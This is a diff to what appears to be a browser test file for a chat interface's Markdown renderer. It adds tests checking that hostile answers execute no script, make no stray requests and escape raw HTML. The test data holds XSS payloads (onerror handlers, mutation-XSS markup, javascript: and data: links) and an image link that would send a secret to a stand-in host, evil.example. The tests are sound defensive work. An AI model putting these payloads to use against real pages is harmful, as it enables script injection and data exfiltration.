@@ -244,14 +244,15 @@ const attack = [
   '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=1">',
   '[click](javascript:window.pwned=1) [data](data:text/html,<script>window.pwned=1</script>) [good](https://good.example/)',
   '![carry](https://evil.example/?q=secret)',
+  '<code>unfinished <img src=x onerror="window.pwned=1" ',
   '```html"onload="window.pwned=1\n<img src=x onerror="window.pwned=1">\n```',
 ].join('\n\n');
 await test(
   'hostile Markdown is inert: no script, no image, no style, no request',
   { answers: [{ content: attack }] },
-  async ({ page, context, ask, answers, problems }) => {
-    const requests = [];
-    context.on('request', (request) => requests.push(new URL(request.url()).hostname));
+  async ({ page, context, ask, answers, problems, provider }) => {
+    const requests = new Set();
+    context.on('request', (request) => requests.add(request.url()));
     await ask('Attack');
     await button(page, 'Regenerate').waitFor();
     const found = await answers.locator('.markdown').evaluate((element) => {
@@ -274,8 +275,31 @@ await test(
     });
     for (const link of await answers.locator('p', { hasText: 'over it all' }).all()) await link.click();
     assert.equal(await page.evaluate(() => 'pwned' in window), false);
-    assert.deepEqual([...new Set(requests)], ['127.0.0.1']);
+    // Chromium may load the page's icon at any time.
+    requests.delete(new URL('favicon.svg', page.url()).href);
+    assert.deepEqual([...requests], [`${provider.baseUrl}/chat/completions`]);
     assert.deepEqual(problems, []);
+  },
+);
+
+await test(
+  'HTML is shown as text, except for inline tags without attributes',
+  {
+    answers: [
+      { content: 'H<sub>2</sub>O<br>is a Promise<string>\n\n<a title="&lt;">&amp;</a>\n\n<div>**x**</div>' },
+    ],
+  },
+  async ({ page, ask, answers }) => {
+    await ask('Hi');
+    await button(page, 'Regenerate').waitFor();
+    assert.deepEqual(
+      await answers.locator('.markdown > p').evaluateAll((all) => all.map(({ innerHTML }) => innerHTML)),
+      [
+        'H<sub>2</sub>O<br>is a Promise&lt;string&gt;',
+        '&lt;a title="&amp;lt;"&gt;&amp;&lt;/a&gt;',
+        '&lt;div&gt;<strong>x</strong>&lt;/div&gt;',
+      ],
+    );
   },
 );
 
